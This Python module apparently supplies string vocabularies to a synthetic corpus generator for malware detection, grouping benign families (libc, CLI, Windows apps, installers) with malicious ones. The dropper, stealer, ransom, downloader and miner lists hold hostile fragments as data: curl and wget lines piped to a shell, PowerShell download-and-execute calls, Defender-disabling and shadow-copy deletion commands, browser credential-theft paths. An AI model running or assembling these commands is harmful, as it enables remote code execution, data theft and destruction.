"""String vocabularies the corpus generator draws from, by family.

Benign and malicious vocabularies overlap on purpose (admin tools talk about the registry and
PowerShell; installers download from URLs), so that models make real mistakes.
"""

from __future__ import annotations

__all__ = ["VOCAB"]

VOCAB: dict[str, tuple[str, ...]] = {
    "libc": (
        "GLIBC_2.2.5", "GLIBC_2.34", "libc.so.6", "libpthread.so.0", "libm.so.6", "__libc_start_main",
        "__cxa_finalize", "_ITM_registerTMCloneTable", "malloc", "free", "memcpy", "strlen",
        "fprintf", "stderr", "getenv", "setlocale", "bindtextdomain", "/usr/share/locale",
        "GCC: (Debian 12.2.0-14) 12.2.0", ".note.gnu.build-id", ".gnu.hash", ".dynsym", ".dynstr",
        ".rela.dyn", ".init_array", ".eh_frame_hdr", "ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2",
    ),
    "cli": (
        "usage: %s [OPTION]... [FILE]...", "--help", "--version", "Try '%s --help' for more information.",
        "invalid option -- '%c'", "Report bugs to: bug-coreutils@gnu.org", "General help using GNU software",
        "License GPLv3+: GNU GPL version 3 or later", "This is free software: you are free to change",
        "cannot open '%s' for reading", "write error", "memory exhausted", "%s: No such file or directory",
        "/etc/nsswitch.conf", "/usr/lib/locale", "Written by %s and %s.",
    ),
    "winapp": (
        "KERNEL32.dll", "USER32.dll", "GDI32.dll", "ADVAPI32.dll", "SHELL32.dll", "ole32.dll",
        "GetProcAddress", "LoadLibraryW", "GetModuleHandleW", "CreateWindowExW", "DefWindowProcW",
        "RegisterClassExW", "GetMessageW", "DispatchMessageW", "MessageBoxW", "CreateFileW",
        "ReadFile", "WriteFile", "CloseHandle", "GetLastError", "HeapAlloc", "HeapFree",
        "This program cannot be run in DOS mode.", "Microsoft Visual C++ Runtime Library",
        "Copyright (C) Contoso Ltd.", "FileDescription", "ProductVersion", "CompanyName",
        "LegalCopyright", "OriginalFilename", "VS_VERSION_INFO", "StringFileInfo", "msvcrt.dll",
        "RegOpenKeyExW", "RegQueryValueExW", "Software\\Contoso\\Settings",
    ),
    "macos": (
        "/usr/lib/libSystem.B.dylib", "/System/Library/Frameworks/Foundation.framework/Foundation",
        "_objc_msgSend", "_NSLog", "__TEXT", "__DATA", "__LINKEDIT", "__cstring", "__stubs",
        "dyld_stub_binder", "@rpath/libswiftCore.dylib", "com.apple.security.app-sandbox",
    ),
    "admin": (
        "powershell.exe -NoProfile -Command", "net user /domain", "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet",
        "schtasks /create /tn", "wmic process list", "reg add HKLM\\Software", "sc create", "sc config",
        "Invoke-Command -ComputerName", "Get-WmiObject Win32_Process", "vssadmin list shadows",
        "https://updates.contoso-it.example/agent", "password policy check", "token refresh",
        "remote administration", "C:\\Windows\\System32\\cmd.exe", "psexec", "AES-256 config backup",
    ),
    "installer": (
        "Nullsoft Install System", "Inno Setup Setup Data", "Setup will install", "Extracting files...",
        "Uninstall", "Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall", "InstallLocation",
        "https://download.vendor.example/releases/", "Downloading components", "7-Zip SFX", "LZMA",
        "Please wait while Setup installs", "ShellExecuteW", "GetTempPathW", "CreateDirectoryW",
    ),
    "python": (
        "import os", "import sys", "import json", "import argparse", "from pathlib import Path",
        "def main(argv=None):", "    parser = argparse.ArgumentParser()", "    return 0",
        "if __name__ == '__main__':", "    sys.exit(main())", "logging.basicConfig(level=logging.INFO)",
        "with open(path, encoding='utf-8') as fh:", "    data = json.load(fh)", "class Config:",
        "    def __init__(self, root):", "        self.root = Path(root)", "for item in items:",
        "subprocess.run(['git', 'status'], check=True)", "requests.get(url, timeout=10)",
    ),
    "shell": (
        "set -euo pipefail", "for f in \"$@\"; do", "done", "if [ -f \"$CONFIG\" ]; then", "fi",
        "echo \"usage: $0 <dir>\"", "mkdir -p \"$HOME/.cache\"", "export PATH=/usr/local/bin:$PATH",
        "tar -xzf release.tar.gz -C /opt", "systemctl restart nginx", "apt-get install -y jq",
        "curl -fsSL https://get.vendor.example/install.sh -o install.sh", "chmod +x install.sh",
        "logger -t backup \"done\"", "rsync -a /srv/ /backup/srv/", "case \"$1\" in", "esac",
    ),
    "doc": (
        "Quarterly report", "Table of contents", "Introduction", "The committee approved the budget",
        "Revenue grew by", "Figure 1", "Appendix", "Lorem ipsum dolor sit amet", "Meeting notes",
        "Action items", "Confidential", "Page", "Summary of findings", "Next steps",
    ),
    "dropper": (
        "URLDownloadToFileA", "VirtualAlloc", "VirtualProtect", "WriteProcessMemory",
        "CreateRemoteThread", "NtUnmapViewOfSection", "cmd.exe /c start", "http://185.220.101.7/x.bin",
        "http://cdn-update.example.top/payload", "IsDebuggerPresent", "GetTickCount", "Sleep",
        "%TEMP%\\svchost.exe", "ShellExecuteA", "WinExec", "InternetOpenUrlA", "InternetReadFile",
    ),
    "stealer": (
        "\\Google\\Chrome\\User Data\\Default\\Login Data", "\\Mozilla\\Firefox\\Profiles", "Cookies",
        "wallet.dat", "\\Exodus\\exodus.wallet", "password", "SELECT origin_url, username_value, password_value",
        "CryptUnprotectData", "api.telegram.org/bot", "smtp.mail.example", "Authorization: Bearer",
        "\\AppData\\Roaming\\discord\\Local Storage", "token", "keylog", "GetAsyncKeyState", "screenshot.png",
    ),
    "ransom": (
        "Your files have been encrypted!", "To decrypt your files send 0.1 bitcoin to", ".locked",
        "README_DECRYPT.txt", "vssadmin delete shadows /all /quiet", "bcdedit /set {default} recoveryenabled no",
        "CryptEncrypt", "CryptGenKey", "AES", "RSA-2048", "encrypt", "wbadmin delete catalog",
        ".docx", ".xlsx", ".pdf", ".jpg", ".sql", ".bak", "tor browser", "onion",
    ),
    "ps_downloader": (
        "powershell -nop -w hidden -encodedcommand", "IEX (New-Object Net.WebClient).DownloadString(",
        "Invoke-Expression", "[System.Convert]::FromBase64String(", "Start-Process -WindowStyle Hidden",
        "Set-MpPreference -DisableRealtimeMonitoring $true", "Add-MpPreference -ExclusionPath",
        "http://paste.example.top/raw/", "bitsadmin /transfer", "certutil -urlcache -split -f",
    ),
    "sh_downloader": (
        "curl -s http://45.9.148.3/x | sh", "wget -q -O- http://dl.example.top/k.sh | bash",
        "chmod +x /tmp/.x", "nohup /tmp/.x >/dev/null 2>&1 &", "crontab -l | { cat; echo",
        "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "pkill -9 kworkerds", "rm -rf /var/log/syslog",
        "history -c", "/dev/tcp/", "base64 -d | bash",
    ),
    "miner": (
        "stratum+tcp://pool.minexmr.example:4444", "xmrig", "--donate-level", "randomx", "cryptonight",
        "hashrate", "nicehash", "--cpu-priority", "huge pages", "/proc/cpuinfo", "monero",
    ),
}
